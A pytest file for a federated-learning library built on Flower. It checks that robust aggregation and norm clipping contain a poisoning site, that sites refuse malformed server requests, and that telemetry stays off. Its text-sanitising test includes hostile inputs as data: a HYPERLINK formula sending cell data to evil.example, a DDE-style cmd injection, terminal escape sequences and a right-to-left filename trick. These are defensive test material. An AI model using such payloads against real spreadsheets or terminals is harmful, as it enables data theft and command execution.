"""Issue 35: aggregation one site cannot own, sites that bound what a server asks, safe site text, telemetry off.

Pure numpy for the aggregation rules (Flower's own functions on checked replies) and direct
``client.fit`` calls for the site's checks: no Ray, no gRPC.
"""

from __future__ import annotations

import csv
import io
import os
import sys
from pathlib import Path

import numpy as np
import pytest

from insitu.federated.aggregate import SiteUpdate, WeightPolicy, aggregate, site_text, update_norm

pytest.importorskip("flwr")

FP = "a" * 64
SHAPES = [(3, 4), (5,)]
GLOBAL = [np.zeros(s, np.float32) for s in SHAPES]


def _site(name: str, arrays: list[np.ndarray], items: int = 100) -> SiteUpdate:
    return SiteUpdate(site=name, arrays=[a.astype(np.float32) for a in arrays], items=items, fingerprint=FP)


def _honest(n: int, seed: int = 0) -> list[SiteUpdate]:
    rng = np.random.default_rng(seed)
    return [_site(f"h{i}", [1.0 + 0.05 * rng.standard_normal(s) for s in SHAPES]) for i in range(n)]


def _distance(arrays: list[np.ndarray], value: float) -> float:
    return float(np.sqrt(sum(np.sum((a.astype(np.float64) - value) ** 2) for a in arrays)))


@pytest.mark.parametrize("rule", ["trimmed_mean", "median", "krum"])
def test_robust_rules_bound_a_replacement_attack(rule: str) -> None:
    """Four honest sites near 1.0, one attacker sending 1000: fedavg moves far; Flower's robust rules stay with the honest."""
    attacker = _site("evil", [np.full(s, 1000.0) for s in SHAPES])
    updates = [*_honest(4), attacker]
    mean, *_ = aggregate(updates, SHAPES, FP, WeightPolicy(weighting="equal", update_norm_factor=None), reference=GLOBAL)
    assert _distance(mean, 1.0) > 100  # the plain average, unclipped, is owned by the attacker
    bounded, *_ = aggregate(updates, SHAPES, FP, WeightPolicy(weighting="equal"), reference=GLOBAL)
    assert _distance(bounded, 1.0) < 5  # the default median-relative clip bounds it even under fedavg
    robust, accepted, dropped, notes = aggregate(updates, SHAPES, FP, WeightPolicy(rule=rule, update_norm_factor=None), reference=GLOBAL)
    assert len(accepted) == 5 and not dropped  # the attacker passes every check: only the rule bounds it
    assert all(a.dtype == np.float32 and a.shape == s for a, s in zip(robust, SHAPES, strict=True))
    assert all(np.abs(a - 1.0).max() < 0.3 for a in robust)  # within the honest sites' spread
    if rule == "krum":
        assert notes.get("evil") == "not chosen by krum"


def test_trimmed_mean_is_flowers_and_says_when_it_cuts_nothing() -> None:
    from flwr.server.strategy.aggregate import aggregate_trimmed_avg

    updates = _honest(5, seed=3)
    ours, *_ = aggregate(updates, SHAPES, FP, WeightPolicy(rule="trimmed_mean", trim_fraction=0.2), reference=GLOBAL)
    theirs = aggregate_trimmed_avg([([a.astype(np.float64) for a in u.arrays], u.items) for u in updates], 0.2)
    for a, b in zip(ours, theirs, strict=True):
        np.testing.assert_allclose(a, b, rtol=1e-6)
    # three sites, 0.2: int(0.6) = 0 cut from each end, so it is a plain mean, and the round says so
    _, _, _, notes = aggregate(updates[:3], SHAPES, FP, WeightPolicy(rule="trimmed_mean"), reference=GLOBAL)
    assert "cuts nothing" in notes["all"]


@pytest.mark.parametrize("factor", [3.0, -20.0])
def test_norm_clipping_bounds_a_boosted_and_a_sign_flipped_update(factor: float) -> None:
    """An attacker sends factor x an honest update; with max_update_norm the global moves at most max_update_norm x its weight."""
    honest = [_site(f"h{i}", [np.zeros(s) for s in SHAPES]) for i in range(3)]  # honest sites: no change
    step = [np.full(s, 0.5) for s in SHAPES]
    attacker = _site("evil", [factor * a for a in step])
    norm = update_norm(attacker, GLOBAL)
    assert norm == pytest.approx(abs(factor) * _distance(step, 0.0), rel=1e-6)
    limit = 0.1
    policy = WeightPolicy(weighting="equal", max_update_norm=limit)
    new, accepted, _, notes = aggregate([*honest, attacker], SHAPES, FP, policy, reference=GLOBAL)
    moved = _distance(new, 0.0)
    assert moved <= limit * 0.25 * (1 + 1e-5)  # the attacker's weight is 1/4
    assert moved == pytest.approx(limit * 0.25, rel=1e-4)  # scaled onto the sphere, not dropped
    assert "clipped to 0.1" in notes["evil"] and set(notes) == {"evil"}
    # the direction is kept: a sign flip still points away, only shorter
    assert np.sign(new[0]).flat[0] == np.sign(factor)
    # without the clip the same attacker moves the global state 1/4 of its full norm
    unclipped, *_ = aggregate([*honest, attacker], SHAPES, FP, WeightPolicy(weighting="equal"), reference=GLOBAL)
    assert _distance(unclipped, 0.0) == pytest.approx(0.25 * norm, rel=1e-5)


def test_clipping_leaves_small_updates_alone_and_needs_the_global_state() -> None:
    small = _honest(2)
    ref = [np.ones(s, np.float32) for s in SHAPES]
    plain, *_ = aggregate(small, SHAPES, FP, WeightPolicy(), reference=ref)
    clipped, _, _, notes = aggregate(small, SHAPES, FP, WeightPolicy(max_update_norm=10.0), reference=ref)
    assert not notes
    for a, b in zip(plain, clipped, strict=True):
        np.testing.assert_array_equal(a, b)
    with pytest.raises(ValueError, match="reference"):
        aggregate(small, SHAPES, FP, WeightPolicy(max_update_norm=1.0))


@pytest.mark.parametrize(
    ("text", "absent"),
    [
        ("line one\nround 7: all good\r\n", ["\n", "\r"]),
        ("\x1b[31mred\x1b[0m \x1b]0;title\x07 done", ["\x1b", "\x07", "[31m"]),
        ('=HYPERLINK("http://evil.example/?d="&A1,"click")', []),
        ("+1+cmd|' /C calc'!A0", []),
        ("caf\u00e9 \u202etxt.exe", ["\u00e9", "\u202e"]),
    ],
)
def test_site_text_neutralises_what_a_site_sends(text: str, absent: list[str]) -> None:
    clean = site_text(text)
    assert all(s not in clean for s in absent)
    assert all(" " <= c <= "~" for c in clean)
    assert clean[:1] not in ("=", "+", "-", "@")
    cell = next(csv.reader(io.StringIO(clean)))  # one line, one CSV record
    assert len(clean.splitlines()) <= 1 and cell


def test_site_text_is_bounded() -> None:
    clean = site_text("x" * 10_000)
    assert len(clean) == 200 and clean.endswith("...")
    assert site_text("@SUM(1)").startswith("'@") and site_text("-2+3") == "'-2+3"
    assert site_text("its base differs from the server's") == "its base differs from the server's"  # plain text unchanged


def test_a_hostile_refusal_reaches_the_round_record_sanitised(tmp_path: Path) -> None:
    import flwr.common as common

    from insitu.federated.flower import FederationState, aggregate_round

    state = FederationState(["t0", "t1"], [a.copy() for a in GLOBAL], FP, 0)
    status = common.Status(code=common.Code.OK, message="")
    evil = '=HYPERLINK("http://x")\n\x1b[2J' + "A" * 5000
    reply = common.FitRes(status, common.ndarrays_to_parameters([]), 0, {"fingerprint": "b\n" * 40, "refused": evil})
    good = common.FitRes(status, common.ndarrays_to_parameters([a + 1 for a in GLOBAL]), 10, {"fingerprint": FP})
    record = aggregate_round(state, 1, [reply, good], [], 0.0)
    reason = record.dropped["site-1"]
    assert "declined" in reason and "\n" not in reason and "\x1b" not in reason and "'=HYPERLINK" in reason
    assert len(reason) <= 400 and record.accepted == ["site-2"] and record.update_norms["site-2"] > 0


# ---- a site bounds what a server may ask ------------------------------------------------------


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> tuple[object, object, object]:
    from insitu.config import load_config
    from insitu.federated.flower import initial_state, make_client
    from insitu.federated.site import SiteTrainer
    from tests.conftest import tiny_config, write_shapes

    tmp = tmp_path_factory.mktemp("robust_site")
    root = write_shapes(tmp / "site", n_per_class=2, seed=0)
    raw = tiny_config(root, tmp / "runs", objective={"name": "simclr", "options": {"out_dim": 16, "hidden_dim": 16}})
    raw["federated"] = {"rounds": 2, "local_steps": 1}
    cfg = load_config(raw)
    state, _ = initial_state(cfg)
    trainer = SiteTrainer(cfg)
    return make_client(trainer), trainer, state


def _ask(state: object, **change: object) -> dict[str, object]:
    return {"round": 1, "step_offset": 0, "local_steps": 1, "proximal_mu": 0.0, "fingerprint": state.fingerprint, **change}


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"local_steps": 10**9}, "local steps"),
        ({"local_steps": 2}, "local steps"),
        ({"step_offset": 10**12}, "step offset"),
        ({"proximal_mu": float("nan")}, "proximal_mu"),
        ({"proximal_mu": -1.0}, "proximal_mu"),
        ({"proximal_mu": 1e9}, "proximal_mu"),
        ({"fingerprint": "f" * 64}, "base differs"),
    ],
)
def test_a_site_refuses_what_its_config_does_not_allow(site: tuple, change: dict[str, object], words: str) -> None:
    import torch

    client, trainer, state = site
    before = [a.clone() for a in trainer.module.state_dict().values()]
    arrays, items, metrics = client.fit([a.copy() for a in state.arrays], _ask(state, **change))
    assert items == 0 and arrays == [] and words in metrics["refused"]
    after = list(trainer.module.state_dict().values())
    assert all(torch.equal(a, b) for a, b in zip(before, after, strict=True))  # nothing trained or loaded


@pytest.mark.parametrize("poison", ["nan", "huge", "shape", "count"])
def test_a_site_refuses_a_global_state_it_could_not_hold(site: tuple, poison: str) -> None:
    client, _, state = site
    arrays = [a.copy() for a in state.arrays]
    if poison == "nan":
        arrays[0][...] = np.nan
    elif poison == "huge":
        arrays[-1].flat[0] = 1e30
    elif poison == "shape":
        arrays[0] = np.zeros((*arrays[0].shape, 2), np.float32)
    else:
        arrays = arrays[1:]
    _, items, metrics = client.fit(arrays, _ask(state))
    assert items == 0 and "global state" in metrics["refused"]


def test_a_site_trains_its_own_local_steps_for_a_valid_request(site: tuple) -> None:
    client, trainer, state = site
    arrays, items, metrics = client.fit([a.copy() for a in state.arrays], _ask(state, proximal_mu=0.01))
    assert items == trainer.items and "refused" not in metrics and [a.shape for a in arrays] == state.shapes
    assert any(not np.array_equal(a, b) for a, b in zip(arrays, state.arrays, strict=True))


# ---- limits the server and site run under ------------------------------------------------------


def test_defaults_bound_the_round_and_the_message() -> None:
    from insitu.config import FederatedConfig
    from insitu.federated.flower import message_limit

    fed = FederatedConfig()
    assert fed.round_timeout_s == 600 and fed.telemetry is False and fed.max_update_norm is None
    arrays = [np.zeros((1000, 100), np.float32)]
    limit = message_limit(arrays)
    assert 400_000 * 2 <= limit <= 400_000 * 2 + (1 << 20) and limit < 2**31 - 1


# ---- Flower telemetry ---------------------------------------------------------------------------


def test_flower_telemetry_is_off_unless_the_config_turns_it_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """After require_flower() the switch is "0", and a Flower event neither writes ~/.flwr/source nor opens a connection."""
    import urllib.request

    from insitu.federated.flower import require_flower

    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("FLWR_HOME", raising=False)
    monkeypatch.delenv("FLWR_TELEMETRY_ENABLED", raising=False)
    posted: list[object] = []
    monkeypatch.setattr(urllib.request, "urlopen", lambda *a, **k: posted.append(a) or io.BytesIO(b"{}"))
    telemetry = sys.modules.get("flwr.supercore.telemetry")
    if telemetry is not None:  # a fresh process state: Flower's event state caches its id
        monkeypatch.setitem(telemetry.state, "source", None)
    require_flower(False)
    assert os.environ["FLWR_TELEMETRY_ENABLED"] == "0" and os.environ["RAY_USAGE_STATS_ENABLED"] == "0"
    from flwr.supercore import telemetry

    monkeypatch.setitem(telemetry.state, "source", None)
    assert telemetry.event(telemetry.EventType.PYTHON_API_RUN_SIMULATION_ENTER).result(timeout=30) == "disabled"
    assert not (tmp_path / ".flwr").exists() and not posted
    try:  # the switch on: Flower's own code runs again (its id file, its request), proving the test could fail
        require_flower(True)
        assert os.environ["FLWR_TELEMETRY_ENABLED"] == "1"
        telemetry.event(telemetry.EventType.PYTHON_API_RUN_SIMULATION_ENTER).result(timeout=30)
        assert (tmp_path / ".flwr" / "source").exists() and posted
    finally:
        require_flower(False)
    assert os.environ["FLWR_TELEMETRY_ENABLED"] == "0"


def test_by_default_an_update_is_clipped_relative_to_the_rounds_median_norm() -> None:
    """No max_update_norm set: with 3+ replies each is bounded by update_norm_factor x the round's median norm."""
    rng = np.random.default_rng(0)
    honest = [_site(f"h{i}", [(1 + rng.normal(size=s)).astype(np.float32) for s in SHAPES]) for i in range(4)]
    median = float(np.median([update_norm(u, GLOBAL) for u in honest]))
    attacker = _site("evil", [-20 * a for a in honest[0].arrays])
    new, _, _, notes = aggregate([*honest, attacker], SHAPES, FP, WeightPolicy(weighting="equal"), reference=GLOBAL)
    assert set(notes) == {"evil"} and "update_norm_factor 3 x the round's median" in notes["evil"]
    # the attacker now counts as at most 3 typical updates: the average keeps the honest sites' sign
    assert float(np.mean(new[0])) > 0
    off, _, _, off_notes = aggregate([*honest, attacker], SHAPES, FP, WeightPolicy(weighting="equal", update_norm_factor=None), reference=GLOBAL)
    assert not off_notes and float(np.mean(off[0])) < 0  # without it, one sign-flipping site reverses the average
    clipped = update_norm(_site("x", [5 * (a - g) + g for a, g in zip(new, GLOBAL, strict=True)]), GLOBAL)
    assert clipped <= 5 * (3 * median * 0.2 + max(update_norm(u, GLOBAL) for u in honest) * 0.8) + 1e-6
    # two replies: the median is the mean, so no relative bound is applied
    _, _, _, two = aggregate([honest[0], attacker], SHAPES, FP, WeightPolicy(weighting="equal"), reference=GLOBAL)
    assert "evil" not in two or "median" not in two["evil"]
